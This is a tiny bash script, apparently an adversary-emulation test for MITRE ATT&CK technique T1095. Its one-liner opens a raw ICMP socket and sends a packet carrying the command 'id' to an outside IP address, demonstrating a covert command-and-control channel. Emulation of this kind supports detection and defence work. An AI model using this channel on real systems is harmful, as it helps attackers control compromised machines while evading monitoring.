#!/bin/bash
# T1095: A raw socket carries orders.
python3 -c 'import socket;s=socket.socket(socket.AF_INET,socket.SOCK_RAW,1);s.sendto(b"\x08\x00\x00\x00\x00\x00\x00\x00id",("44.128.66.66",0))'
